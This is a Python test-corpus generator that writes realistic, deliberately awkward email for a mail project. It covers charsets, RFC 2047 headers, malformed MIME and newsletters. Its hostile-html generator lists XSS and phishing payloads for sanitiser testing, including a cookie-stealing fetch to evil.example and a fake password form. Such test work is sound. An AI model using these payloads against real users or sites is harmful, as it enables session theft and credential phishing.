#!/usr/bin/python3
"""Deterministic (seeded) generator of realistic, nasty test mail.

  corpus.py [--count N] [--seed S] [--big] [--now EPOCH] [--to EMAIL]
            (--out DIR | --maildir PATH | --stack DIR --user EMAIL [--folder NAME] [--replace])
            [--seen-ratio 0.6]

  --out DIR        write 00001.eml ... into DIR
  --maildir PATH   write into an existing Maildir folder (new/ and cur/, owned by nobody)
  --stack DIR      write into USER's FOLDER of the mailstack in DIR (creates the folder);
                   with --replace the folder is emptied first, so a rerun leaves the same
                   messages, and Dovecot indexes the folder before the command returns

Same --seed and --now give byte-identical output.  --now defaults to today 00:00 UTC,
so dates ("spread over the last 6 months") only move once a day.
Each message carries "X-Petrel-Corpus: <kind>" naming what it exercises.
Kinds: plain, alternative, attachments, related, charset-*, rfc2047, thread replies,
malformed-*, hostile-html, newsletter, big (only with --big).
"""
import argparse
import base64
import datetime
import email.utils
import hashlib
import os
import quopri
import random
import sys
import textwrap
import time
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

# ---------------------------------------------------------------------------- data

PEOPLE = [
    ("Alice Martin", "alice@example.test"), ("Bob Schneider", "bob@example.test"),
    ("Carol Dubois", "carol@example.org"), ("David Okafor", "david.okafor@partner.example"),
    ("Émilie Lefèvre", "emilie.lefevre@societe.example"), ("Jürgen Groß", "j.gross@firma.example"),
    ("Иван Петров", "ivan.petrov@kompania.example"), ("Мария Смирнова", "m.smirnova@pochta.example"),
    ("田中 太郎", "tanaka@kaisha.example"), ("山本 花子", "h.yamamoto@kaisha.example"),
    ("王伟", "wang.wei@gongsi.example"), ("李娜", "li.na@gongsi.example"),
    ("Søren Kierkegaard", "soren@firma.example"), ("José Álvarez", "jose@empresa.example"),
    ("Priya Raman", "priya@startup.example"), ("Liam O'Connor", "liam.oconnor@pub.example"),
    ("GitHub", "noreply@github.example"), ("Online Shop", "orders@shop.example"),
    ("Newsletter Team", "news@newsletter.example"), ("IT Helpdesk", "helpdesk@corp.example"),
]

SUBJECTS_EN = [
    "Quarterly report draft", "Meeting notes from Tuesday", "Lunch on Friday?",
    "Invoice #{n} for October", "Your order #{n} has shipped", "Re: budget numbers",
    "Project Petrel kickoff", "Holiday schedule", "Server maintenance window tonight",
    "Photos from the trip", "Contract review — please sign by Monday", "Welcome aboard!",
    "Password expiry notice", "Minutes: architecture review", "Conference travel booking",
    "Can you review my pull request?", "Bug #{n}: crash when opening attachment",
]
SUBJECTS_RU = ["Отчёт за квартал", "Встреча в четверг", "Счёт №{n} на оплату",
               "Поздравляю с днём рождения!", "Договор на согласование"]
SUBJECTS_JA = ["会議の議事録", "来週の予定について", "請求書の送付", "お疲れ様です"]
SUBJECTS_ZH = ["季度报告", "会议通知", "发票已开具", "周末聚餐"]
SUBJECTS_DE = ["Besprechung am Mittwoch", "Rechnung Nr. {n}", "Grüße aus München",
               "Änderungen am Vertragsentwurf"]
SUBJECTS_FR = ["Réunion de lundi", "Facture n°{n}", "Compte rendu de l'été", "Déjeuner à côté"]

BODY_EN = [
    "Hi {first},\n\nplease find my comments below. I think we are mostly aligned, but the "
    "timeline for the second phase looks optimistic to me.\n\nCould we discuss this on our "
    "next call?\n\nBest regards,\n{me}",
    "Hello {first},\n\nthanks for the quick reply. I have updated the document and uploaded "
    "the new version. Let me know if anything is missing.\n\nCheers,\n{me}",
    "Dear {first},\n\nthis is a friendly reminder that the deadline is approaching. Please "
    "send the signed copy back at your earliest convenience.\n\nKind regards,\n{me}",
    "{first},\n\nquick question: do we still need the old staging server? It costs money "
    "every month and nobody seems to use it.\n\n-- \n{me}",
]
BODY_RU = "Здравствуйте, {first}!\n\nВысылаю документы по проекту. Просьба ознакомиться и " \
          "дать ответ до пятницы.\n\nС уважением,\n{me}"
BODY_JA = "{first}様\n\nいつもお世話になっております。\n来週の会議の資料を添付いたします。\n" \
          "ご確認のほど、よろしくお願いいたします。\n\n{me}"
BODY_ZH = "{first}，你好！\n\n附件是本季度的报告，请查收。如有问题请随时联系我。\n\n谢谢，\n{me}"
BODY_FR = "Bonjour {first},\n\nvoici le compte rendu de la réunion. N'hésitez pas à me " \
          "faire part de vos remarques.\n\nCordialement,\n{me}"
BODY_DE = "Hallo {first},\n\nanbei die überarbeitete Fassung. Größere Änderungen sind " \
          "gelb markiert.\n\nViele Grüße\n{me}"

ATTACH_NAMES = [
    ("report-Q3.pdf", "application/pdf"), ("Отчёт за 2024 год.pdf", "application/pdf"),
    ("請求書_2024年10月.pdf", "application/pdf"), ("Präsentation – final.pdf", "application/pdf"),
    ("photo 001.jpg", "image/jpeg"), ("скриншот экрана.png", "image/png"),
    ("données.csv", "text/csv"), ("notes.txt", "text/plain"),
    ("archive.zip", "application/zip"), ("very " + "long " * 30 + "name.pdf", "application/pdf"),
    ("budget.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    ("invite.ics", "text/calendar"),
]

# 1x1 transparent PNG and a tiny 8x8 red PNG, generated below
def _png(w, h, rgb):
    def chunk(t, d):
        c = t + d
        return len(d).to_bytes(4, "big") + c + zlib.crc32(c).to_bytes(4, "big")
    raw = b"".join(b"\0" + bytes(rgb) * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", w.to_bytes(4, "big") + h.to_bytes(4, "big")
            + b"\x08\x02\x00\x00\x00") + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


PNG_RED = _png(8, 8, (220, 30, 30))
PNG_LOGO = _png(32, 16, (20, 90, 200))


def fake_pdf(rng, size):
    head = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    body = bytes(rng.getrandbits(8) for _ in range(max(0, size - len(head) - 6)))
    return head + body + b"\n%%EOF"


def fake_bytes(rng, size):
    return rng.randbytes(size) if hasattr(rng, "randbytes") else \
        bytes(rng.getrandbits(8) for _ in range(size))


# ---------------------------------------------------------------------------- encoders

def b64lines(data):
    s = base64.b64encode(data).decode()
    return "\n".join(s[i:i + 76] for i in range(0, len(s), 76))


def enc_word(text, charset="utf-8", mode="B"):
    raw = text.encode(charset)
    if mode == "B":
        return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode())
    q = "".join(chr(b) if (48 <= b <= 57 or 65 <= b <= 90 or 97 <= b <= 122) else
                ("_" if b == 32 else "=%02X" % b) for b in raw)
    return "=?%s?Q?%s?=" % (charset, q)


def enc_header(text, charset="utf-8", mode="B", chunk=20):
    """RFC 2047 encode text (properly split on character boundaries, folded)."""
    if all(32 <= ord(c) < 127 for c in text):
        return text
    words, cur = [], ""
    for ch in text:
        if len((cur + ch).encode(charset)) > chunk:
            words.append(enc_word(cur, charset, mode))
            cur = ""
        cur += ch
    if cur:
        words.append(enc_word(cur, charset, mode))
    return "\n ".join(words)


def addr(name, email_addr, charset="utf-8"):
    if all(32 <= ord(c) < 127 for c in name):
        if any(c in name for c in ",.;:'\"()<>@"):
            return '"%s" <%s>' % (name.replace('"', '\\"'), email_addr)
        return "%s <%s>" % (name, email_addr)
    return "%s <%s>" % (enc_header(name, charset), email_addr)


def rfc2231(param, value):
    """RFC 2231 encoded parameter (with continuations for long values)."""
    if all(32 < ord(c) < 127 and c not in '"\\;' for c in value) and len(value) < 60:
        return '%s="%s"' % (param, value)
    enc = "".join(c if (c.isascii() and c.isalnum()) or c in "-._~" else
                  "".join("%%%02X" % b for b in c.encode("utf-8")) for c in value)
    if len(enc) < 60:
        return "%s*=utf-8''%s" % (param, enc)
    parts, i, n = [], 0, 0
    while i < len(enc):
        j = min(i + 60, len(enc))
        while j < len(enc) and enc[j - 1] == "%" or (j < len(enc) and enc[j - 2:j - 1] == "%"):
            j -= 1   # don't split a %XX escape
        piece = enc[i:j]
        parts.append("%s*%d*=%s%s" % (param, n, "utf-8''" if n == 0 else "", piece))
        i, n = j, n + 1
    return ";\n ".join(parts)


def qp(text, charset="utf-8"):
    return quopri.encodestring(text.encode(charset)).decode("ascii")


# ---------------------------------------------------------------------------- generator

class Gen:
    def __init__(self, seed, now, to, big=False):
        self.rng = random.Random(seed)
        self.seed = seed
        self.now = now
        self.to_addr = to
        self.to_name = next((n for n, a in PEOPLE if a == to), to.split("@")[0].title())
        self.big = big
        self.threads = []     # list of (subject, [message-ids], participants)
        self.n = 0

    # -- common pieces
    def msgid(self, dom=None):
        h = hashlib.sha1(("%s-%d-%d" % (self.seed, self.n, self.rng.getrandbits(32)))
                         .encode()).hexdigest()[:20]
        return "<%s.%d@%s>" % (h, self.n, dom or self.rng.choice(
            ["mail.example.test", "mx.partner.example", "smtp.kaisha.example"]))

    def date(self):
        # spread over the last ~180 days, denser in recent weeks
        days = min(180.0, self.rng.expovariate(1 / 45.0))
        t = self.now - days * 86400 - self.rng.randint(0, 86399)
        tz = self.rng.choice([0, 1, 2, 3, -5, -8, 9, 8, 5.5])
        dt = datetime.datetime.fromtimestamp(t, datetime.timezone(datetime.timedelta(hours=tz)))
        return email.utils.format_datetime(dt), t

    def person(self):
        return self.rng.choice([p for p in PEOPLE if p[1] != self.to_addr])

    def subject(self, lang="en"):
        pool = {"en": SUBJECTS_EN, "ru": SUBJECTS_RU, "ja": SUBJECTS_JA, "zh": SUBJECTS_ZH,
                "de": SUBJECTS_DE, "fr": SUBJECTS_FR}[lang]
        return self.rng.choice(pool).format(n=self.rng.randint(1000, 99999))

    def headers(self, kind, frm, subject_hdr, date, mid, extra=()):
        to = addr(self.to_name, self.to_addr)
        h = ["Return-Path: <%s>" % frm[1],
             "From: %s" % addr(*frm),
             "To: %s" % to]
        if self.rng.random() < 0.15:
            cc = self.person()
            h.append("Cc: %s" % addr(*cc))
        h += ["Subject: %s" % subject_hdr, "Date: %s" % date, "Message-ID: %s" % mid]
        h += list(extra)
        h += ["MIME-Version: 1.0", "X-Petrel-Corpus: %s" % kind]
        return "\n".join(h)

    def boundary(self):
        return "=_petrel_%08x" % self.rng.getrandbits(32)

    # -- kinds
    def k_plain(self):
        frm = self.person()
        subj = self.subject(self.rng.choice(["en", "en", "de", "fr"]))
        body = self.rng.choice(BODY_EN + [BODY_DE, BODY_FR]).format(
            first=self.to_name.split()[0], me=frm[0])
        date, t = self.date()
        mid = self.msgid()
        self._remember(subj, mid, frm)
        return t, self.headers("plain", frm, enc_header(subj, mode="Q"), date, mid) + \
            "\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: " \
            "quoted-printable\n\n" + qp(body)

    def _html_of(self, text):
        paras = "".join("<p>%s</p>\n" % p.replace("&", "&amp;").replace("<", "&lt;")
                        .replace("\n", "<br>") for p in text.split("\n\n"))
        return ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>p{font-family:"
                "Arial,sans-serif;font-size:14px}</style></head><body>\n%s</body></html>\n"
                % paras)

    def k_alternative(self):
        frm = self.person()
        subj = self.subject()
        body = self.rng.choice(BODY_EN).format(first=self.to_name.split()[0], me=frm[0])
        date, t = self.date()
        mid = self.msgid()
        self._remember(subj, mid, frm)
        b = self.boundary()
        return t, self.headers("alternative", frm, subj, date, mid) + \
            '\nContent-Type: multipart/alternative; boundary="%s"\n\n' % b + \
            "--%s\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: " \
            "quoted-printable\n\n%s\n--%s\nContent-Type: text/html; charset=utf-8\n" \
            "Content-Transfer-Encoding: quoted-printable\n\n%s\n--%s--\n" % (
                b, qp(body), b, qp(self._html_of(body)), b)

    def _attachment_part(self, name, ctype, data, disposition="attachment"):
        return ("Content-Type: %s; %s\nContent-Disposition: %s; %s\n"
                "Content-Transfer-Encoding: base64\n\n%s\n" % (
                    ctype, rfc2231("name", name).replace("name*", "name*", 1),
                    disposition, rfc2231("filename", name), b64lines(data)))

    def k_attachments(self):
        frm = self.person()
        subj = self.subject(self.rng.choice(["en", "ru", "ja", "de"]))
        date, t = self.date()
        mid = self.msgid()
        self._remember(subj, mid, frm)
        b = self.boundary()
        body = self.rng.choice(BODY_EN).format(first=self.to_name.split()[0], me=frm[0])
        parts = ["Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
                 + body + "\n"]
        for _ in range(self.rng.choice([1, 1, 2, 3])):
            name, ctype = self.rng.choice(ATTACH_NAMES)
            if ctype == "application/pdf":
                data = fake_pdf(self.rng, self.rng.randint(2000, 60000))
            elif ctype == "image/png":
                data = PNG_RED
            elif ctype == "image/jpeg":
                data = b"\xff\xd8\xff\xe0\0\x10JFIF\0" + fake_bytes(self.rng, 3000) + b"\xff\xd9"
            elif ctype.startswith("text/"):
                data = ("col1;col2;имя\n1;2;три\n" * 20).encode()
            else:
                data = fake_bytes(self.rng, self.rng.randint(500, 20000))
            parts.append(self._attachment_part(name, ctype, data))
        return t, self.headers("attachments", frm, enc_header(subj), date, mid) + \
            '\nContent-Type: multipart/mixed; boundary="%s"\n\n' % b + \
            "This is a multi-part message in MIME format.\n\n" + \
            "".join("--%s\n%s" % (b, p) for p in parts) + "--%s--\n" % b

    def k_related(self):
        frm = self.person()
        subj = self.rng.choice(["Our new logo", "Signature test", "Chart attached inline"])
        date, t = self.date()
        mid = self.msgid()
        b1, b2, b3 = self.boundary(), self.boundary(), self.boundary()
        cid1 = "logo.%x@petrel.example" % self.rng.getrandbits(32)
        cid2 = "chart.%x@petrel.example" % self.rng.getrandbits(32)
        html = ('<html><body><p>Here is the new logo:</p><img src="cid:%s" alt="logo">'
                '<p>and the chart:</p><img src="CID:%s" width="8" height="8">'
                '<p>Regards</p></body></html>' % (cid1, cid2))
        return t, self.headers("related", frm, subj, date, mid) + \
            '\nContent-Type: multipart/mixed; boundary="%s"\n\n' % b1 + \
            '--%s\nContent-Type: multipart/alternative; boundary="%s"\n\n' % (b1, b2) + \
            "--%s\nContent-Type: text/plain; charset=us-ascii\n\nHere is the new logo " \
            "(see HTML part).\n\n" % b2 + \
            '--%s\nContent-Type: multipart/related; boundary="%s"; type="text/html"\n\n' % (
                b2, b3) + \
            "--%s\nContent-Type: text/html; charset=utf-8\n\n%s\n" % (b3, html) + \
            "--%s\nContent-Type: image/png; name=\"logo.png\"\nContent-ID: <%s>\n" \
            "Content-Disposition: inline; filename=\"logo.png\"\n" \
            "Content-Transfer-Encoding: base64\n\n%s\n" % (b3, cid1, b64lines(PNG_LOGO)) + \
            "--%s\nContent-Type: image/png\nContent-ID: <%s>\n" \
            "Content-Transfer-Encoding: base64\n\n%s\n--%s--\n\n--%s--\n" % (
                b3, cid2, b64lines(PNG_RED), b3, b2) + \
            "--%s\n%s--%s--\n" % (b1, self._attachment_part("chart data.csv", "text/csv",
                                                            b"a,b\n1,2\n"), b1)

    def k_charset(self):
        cs = self.rng.choice(["koi8-r", "windows-1251", "iso-2022-jp", "gb2312",
                              "iso-8859-1", "utf-8"])
        lang, body_t = {"koi8-r": ("ru", BODY_RU), "windows-1251": ("ru", BODY_RU),
                        "iso-2022-jp": ("ja", BODY_JA), "gb2312": ("zh", BODY_ZH),
                        "iso-8859-1": ("fr", BODY_FR), "utf-8": ("de", BODY_DE)}[cs]
        pool = {"ru": [p for p in PEOPLE if p[1].endswith("kompania.example") or
                       p[1].endswith("pochta.example")],
                "ja": [p for p in PEOPLE if "kaisha" in p[1]],
                "zh": [p for p in PEOPLE if "gongsi" in p[1]],
                "fr": [p for p in PEOPLE if "societe" in p[1]],
                "de": [p for p in PEOPLE if "firma" in p[1]]}[lang]
        frm = self.rng.choice(pool)
        fit = lambda x: x.replace("№", "N").encode(cs, "replace").decode(cs)
        subj = fit(self.subject(lang))
        body = fit(body_t.format(first=self.to_name.split()[0], me=frm[0]))
        date, t = self.date()
        mid = self.msgid()
        self._remember(subj, mid, frm)
        cte, payload = "8bit", body.encode(cs)
        if cs == "iso-2022-jp":
            cte = "7bit"
        elif self.rng.random() < 0.5:
            cte, payload = "base64", b64lines(payload).encode()
        hdr_mode = "B" if cs in ("iso-2022-jp", "gb2312") else self.rng.choice("BQ")
        head = self.headers("charset-" + cs, frm, enc_header(subj, cs, hdr_mode), date, mid)
        head = head.replace("From: " + addr(*frm), "From: " + addr(frm[0], frm[1], cs))
        return t, (head + "\nContent-Type: text/plain; charset=%s\n"
                   "Content-Transfer-Encoding: %s\n\n" % (cs, cte)).encode("ascii") + \
            payload + b"\n"

    def k_rfc2047(self):
        """Encoded words in all the odd ways real mailers produce."""
        frm = self.person()
        date, t = self.date()
        mid = self.msgid()
        variant = self.rng.randrange(6)
        if variant == 0:   # encoded word split inside a multibyte char (badly folded)
            raw = "Отчёт о проделанной работе".encode("utf-8")
            cut = 7  # inside a 2-byte sequence
            subj = "=?UTF-8?B?%s?=\n =?UTF-8?B?%s?=" % (
                base64.b64encode(raw[:cut]).decode(), base64.b64encode(raw[cut:]).decode())
        elif variant == 1:  # mixed charsets, adjacent words, lower-case q
            subj = "=?koi8-r?b?%s?= =?iso-8859-1?q?caf=E9?= plain text =?utf-8?q?=F0=9F=90=A6?=" \
                % base64.b64encode("Привет".encode("koi8-r")).decode()
        elif variant == 2:  # encoded word inside quotes and without spaces (technically invalid)
            subj = 'Re:=?UTF-8?Q?R=C3=A9union?="=?UTF-8?B?%s?="' % base64.b64encode(
                "日本語".encode()).decode()
        elif variant == 3:  # very long subject folded many times
            subj = enc_header("Очень длинная тема письма, которая обязательно будет "
                              "перенесена на несколько строк заголовка " * 3, "utf-8", "B", 30)
        elif variant == 4:  # raw 8-bit utf-8 in header (no encoding)
            subj = "Grüße — ünencoded 8bit UTF-8 subject ✓"
        else:               # iso-2022-jp with a Q word and unknown charset
            subj = "%s =?x-unknown?Q?hello?=" % enc_word("会議室の予約", "iso-2022-jp", "B")
        name_hdr = enc_header(frm[0], "utf-8", "Q", 9) if variant % 2 else frm[0]
        head = self.headers("rfc2047-%d" % variant, frm, subj, date, mid)
        head = head.replace("From: " + addr(*frm), "From: %s <%s>" % (
            ('"%s"' % name_hdr) if variant == 2 else name_hdr, frm[1]))
        return t, (head + "\nContent-Type: text/plain; charset=utf-8\n"
                   "Content-Transfer-Encoding: 8bit\n\nSubject encoding test %d.\n" % variant
                   ).encode("utf-8")

    def k_reply(self):
        if not self.threads:
            return self.k_plain()
        th = self.rng.choice(self.threads[-40:])
        subj, ids, frm0 = th
        frm = self.rng.choice([frm0, self.person()])
        date, t = self.date()
        mid = self.msgid()
        refs = ids[-10:]
        pre = self.rng.choice(["Re: ", "RE: ", "Re: Re: ", "AW: ", "Fwd: ", "Ответ: "])
        body = ("Thanks, see my answer inline.\n\n> %s\n\nOK for me.\n\n%s\n" % (
            subj, frm[0]))
        ids.append(mid)
        head = self.headers("thread-reply", frm, enc_header(pre + subj), date, mid,
                            extra=["In-Reply-To: %s" % refs[-1],
                                   "References: %s" % "\n ".join(refs)])
        return t, head + "\nContent-Type: text/plain; charset=utf-8; format=flowed\n" \
            "Content-Transfer-Encoding: 8bit\n\n" + body

    def _remember(self, subj, mid, frm):
        self.threads.append((subj, [mid], frm))

    def k_malformed(self):
        frm = self.person()
        date, t = self.date()
        mid = self.msgid()
        v = self.rng.randrange(6)
        b = self.boundary()
        if v == 0:
            kind, ct = "malformed-no-closing-boundary", \
                '\nContent-Type: multipart/mixed; boundary="%s"\n\n--%s\nContent-Type: ' \
                'text/plain\n\nThe closing boundary is missing.\n--%s\nContent-Type: ' \
                'application/pdf; name="cut.pdf"\nContent-Transfer-Encoding: base64\n\n%s\n' % (
                    b, b, b, b64lines(fake_pdf(self.rng, 3000))[:2000])
        elif v == 1:
            kind, ct = "malformed-bad-base64", \
                "\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64" \
                "\n\nSGVsbG8g!!!d29ybGQ=\n$$$ not base64 at all ***\nSGVsbG8\n"
        elif v == 2:
            kind = "malformed-lying-charset"
            ct = "\nContent-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: " \
                 "8bit\n\n" + "Это на самом деле windows-1251, а не ASCII.\n"
            head = self.headers(kind, frm, "Lying charset (claims us-ascii)", date, mid)
            return t, (head + ct.split("\n\n", 1)[0] + "\n\n").encode() + \
                ct.split("\n\n", 1)[1].encode("windows-1251")
        elif v == 3:
            kind, ct = "malformed-missing-boundary-param", \
                "\nContent-Type: multipart/mixed\n\n--foo\nContent-Type: text/plain\n\n" \
                "multipart without boundary parameter\n--foo--\n"
        elif v == 4:
            kind, ct = "malformed-invalid-utf8-declared-utf8", \
                "\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit" \
                "\n\n"
            head = self.headers(kind, frm, "Invalid UTF-8 bytes", date, mid)
            return t, (head + ct).encode() + b"broken \xc3\x28 \xa0\xa1 \xf0\x28\x8c\xbc " \
                b"overlong \xc0\xaf nul \x00 end\n"
        else:
            kind, ct = "malformed-nested-unterminated", \
                '\nContent-Type: multipart/mixed; boundary="outer"\n\n--outer\n' \
                'Content-Type: multipart/alternative; boundary="inner"\n\n--inner\n' \
                'Content-Type: text/plain\n\ninner text\n--outer--\n'
        head = self.headers(kind, frm, kind.replace("-", " "), date, mid)
        return t, head + ct

    def k_hostile(self):
        frm = ("Totally Legit Bank", "security@bank-login.example")
        date, t = self.date()
        mid = self.msgid()
        v = self.rng.randrange(4)
        snippets = [
            '<script>alert(document.cookie)</script>',
            '<img src=x onerror="fetch(\'https://evil.example/steal?c=\'+document.cookie)">',
            '<a href="javascript:alert(1)">Click to verify your account</a>',
            '<a href="JaVaScRiPt&#58;alert(2)">obfuscated</a>',
            '<a href="  java\tscript:alert(3)">whitespace</a>',
            '<svg><script>alert(4)</script><a xlink:href="javascript:alert(5)">'
            '<text x="0" y="15">svg link</text></a></svg>',
            '<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>'
            '</style></mglyph></table></mtext></math>',
            '<svg><style><img src=x onerror=alert(7)></style></svg>',
            '<noscript><p title="</noscript><img src=x onerror=alert(8)>"></noscript>',
            '<div style="background:url(https://tracker.example/bg.png)">css url</div>',
            '<div style="width: expression(alert(9))">IE expression</div>',
            '<style>@import url("https://evil.example/x.css"); body{background:'
            'url(//tracker.example/b.gif)}</style>',
            '<iframe src="https://evil.example/frame"></iframe>',
            '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
            '<form action="https://evil.example/phish" method="post"><input name="password" '
            'type="password"><button>Login</button></form>',
            '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
            '<base href="https://evil.example/">',
            '<img src="https://tracker.example/open.gif?u=alice" width="1" height="1">',
            '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">data uri</a>',
            '<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
            '<p onclick="alert(11)" onmouseover=alert(12)>hover me</p>',
            '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(13)</x:script>',
            '<!--<img src="--><img src=x onerror=alert(14)>-->',
            '<table background="https://tracker.example/t.png"><tr><td>tbl</td></tr></table>',
            '<link rel="stylesheet" href="https://evil.example/s.css">',
        ]
        pick = snippets if v == 0 else self.rng.sample(snippets, 8)
        html = ("<html><head><title>x</title></head><body><h1>Account notice</h1>\n%s\n"
                "</body></html>\n" % "\n".join(pick))
        head = self.headers("hostile-html", frm, "Urgent: verify your account", date, mid)
        return t, head + "\nContent-Type: text/html; charset=utf-8\n" \
            "Content-Transfer-Encoding: quoted-printable\n\n" + qp(html)

    def k_newsletter(self):
        frm = ("Newsletter Team", "news@newsletter.example")
        date, t = self.date()
        mid = self.msgid("newsletter.example")
        b = self.boundary()
        issue = self.rng.randint(1, 300)
        html = ('<html><head><style>.btn{background:url("https://cdn.newsletter.example/btn.png")}'
                '</style></head><body style="margin:0">'
                '<table width="100%%"><tr><td><img src="https://cdn.newsletter.example/header.jpg"'
                ' alt="Header"></td></tr><tr><td><h2>Issue #%d: Spring deals</h2>'
                '<p>Up to <b>50%%</b> off. <a href="https://click.newsletter.example/r?u=%x">'
                'Shop now</a></p></td></tr></table>'
                '<img src="https://pixel.newsletter.example/o.gif?id=%x" width="1" height="1" '
                'style="display:none">'
                '<p><a href="https://newsletter.example/unsubscribe">Unsubscribe</a></p>'
                '</body></html>' % (issue, self.rng.getrandbits(40), self.rng.getrandbits(40)))
        head = self.headers("newsletter", frm, "Issue #%d: Spring deals inside" % issue, date,
                            mid, extra=["List-Unsubscribe: <https://newsletter.example/unsub>,"
                                        " <mailto:unsub@newsletter.example>",
                                        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
                                        "Precedence: bulk"])
        return t, head + '\nContent-Type: multipart/alternative; boundary="%s"\n\n' % b + \
            "--%s\nContent-Type: text/plain; charset=utf-8\n\nIssue #%d - view in a browser." \
            "\n\n--%s\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: " \
            "quoted-printable\n\n%s\n--%s--\n" % (b, issue, b, qp(html), b)

    def k_big(self):
        frm = ("Alice Martin", "alice@example.test") if self.to_addr != "alice@example.test" \
            else ("Bob Schneider", "bob@example.test")
        date, t = self.date()
        mid = self.msgid()
        b = self.boundary()
        data = fake_pdf(random.Random(self.seed + 1), 15 * 1024 * 1024)
        head = self.headers("big", frm, "Big attachment (about 20 MB message)", date, mid)
        return t, head + '\nContent-Type: multipart/mixed; boundary="%s"\n\n--%s\n' % (b, b) + \
            "Content-Type: text/plain; charset=utf-8\n\nThe scan you asked for.\n--%s\n" % b + \
            self._attachment_part("scan-большой.pdf", "application/pdf", data) + "--%s--\n" % b

    KINDS = [("k_plain", 22), ("k_alternative", 16), ("k_attachments", 12), ("k_related", 4),
             ("k_charset", 12), ("k_rfc2047", 5), ("k_reply", 18), ("k_malformed", 4),
             ("k_hostile", 3), ("k_newsletter", 4)]

    def generate(self, count):
        names = [k for k, _ in self.KINDS]
        weights = [w for _, w in self.KINDS]
        for i in range(count):
            self.n = i + 1
            kind = names[i] if i < len(names) else self.rng.choices(names, weights)[0]
            t, msg = getattr(self, kind)()
            yield t, _crlf_free(msg)
        if self.big:
            self.n = count + 1
            t, msg = self.k_big()
            yield t, _crlf_free(msg)


def _crlf_free(msg):
    if isinstance(msg, str):
        msg = msg.encode("utf-8")
    return msg.replace(b"\r\n", b"\n")


def main():
    ap = argparse.ArgumentParser(description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--count", type=int, default=300)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--big", action="store_true", help="add one ~20 MB message")
    ap.add_argument("--now", type=float, default=None,
                    help="reference epoch for dates (default: today 00:00 UTC)")
    ap.add_argument("--to", default="alice@example.test", help="recipient of the corpus")
    ap.add_argument("--seen-ratio", type=float, default=0.6,
                    help="fraction stored as \\Seen (Maildir output only)")
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--out", help="directory for NNNNN.eml files")
    g.add_argument("--maildir", help="existing Maildir folder path")
    g.add_argument("--stack", help="mailstack DIR (with --user, --folder)")
    ap.add_argument("--user", help="with --stack: mailbox owner (default --to)")
    ap.add_argument("--folder", default="INBOX", help="with --stack")
    ap.add_argument("--replace", action="store_true",
                    help="with --stack: expunge every message of the folder first")
    a = ap.parse_args()
    now = a.now if a.now is not None else (int(time.time()) // 86400) * 86400
    gen = Gen(a.seed, now, a.to.lower(), a.big)
    seen_rng = random.Random(a.seed * 7919 + 1)
    t0 = time.time()
    n = total = 0
    if a.out:
        os.makedirs(a.out, exist_ok=True)
        for t, msg in gen.generate(a.count):
            n += 1
            total += len(msg)
            p = os.path.join(a.out, "%05d.eml" % n)
            with open(p, "wb") as f:
                f.write(msg)
            os.utime(p, (t, t))
        where = a.out
    else:
        import mailstack
        if a.stack:
            P = mailstack.Paths(a.stack)
            user = (a.user or a.to).lower()
            path = mailstack.maildir_path(P, user, a.folder)
            if a.replace:
                mailstack.doveadm(P, "expunge", "-u", user, "mailbox", a.folder, "all")
        else:
            path = a.maildir
        for t, msg in gen.generate(a.count):
            n += 1
            total += len(msg)
            mailstack.maildir_put(path, msg, mtime=t, seen=seen_rng.random() < a.seen_ratio)
        if a.stack:
            mailstack._fix_owner(path, P.home(user))
            # Files dropped into the Maildir are unknown to Dovecot's index until
            # a sync. Left to the first client, a STATUS racing another
            # connection's SELECT (which holds the sync lock) answers from the
            # old index: the tests saw an unread count short by exactly this
            # batch. Index it now, before any test looks.
            mailstack.doveadm(P, "force-resync", "-u", user, a.folder)
        where = path
    print("corpus: %d messages, %.1f MB -> %s (%.1fs)" % (n, total / 1e6, where,
                                                        time.time() - t0), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
